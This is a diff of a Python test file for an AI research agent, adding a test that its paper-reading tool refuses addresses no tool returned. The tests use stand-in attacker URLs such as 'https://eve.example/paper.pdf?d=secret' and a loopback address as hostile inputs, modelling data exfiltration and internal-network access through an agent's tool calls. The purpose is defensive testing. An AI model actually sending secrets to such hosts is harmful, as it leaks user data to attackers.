@@ -13,7 +13,7 @@ from typing import Any
 
 import pytest
 from ml_intern.prompts import load_templates, researcher_templates
-from ml_intern.tools import ArxivSearchTool, HubDownloadTool, HubPushTool
+from ml_intern.tools import ArxivSearchTool, HubDownloadTool, HubPushTool, PaperReadTool
 from sessions.conftest import Publish, code, notes, text_of, until
 from smolagents import Model, Tool
 from smolagents.models import ChatMessage, MessageRole, TokenUsage
@@ -271,6 +271,17 @@ def test_a_page_is_read_only_where_a_tool_returned_its_address() -> None:
         page(url="https://eve.example/?d=secret")
     with pytest.raises(ValueError, match="inner network"):
         page(url="http://127.0.0.1:1/x")
+
+
+def test_nor_a_paper_at_an_address_that_it_makes_up() -> None:
+    own = PaperReadTool()
+    agent, _ = researcher(lambda: [own], lambda: Reader(GOOD))._make()
+    try:
+        with pytest.raises(ValueError, match="no address that a tool returned"):
+            agent.tools["paper_read"](paper="https://eve.example/paper.pdf?d=secret")
+        assert own.found is None, "the session's own tool is as it was"
+    finally:
+        agent.cleanup()
 
 
 class Pages(BaseHTTPRequestHandler):
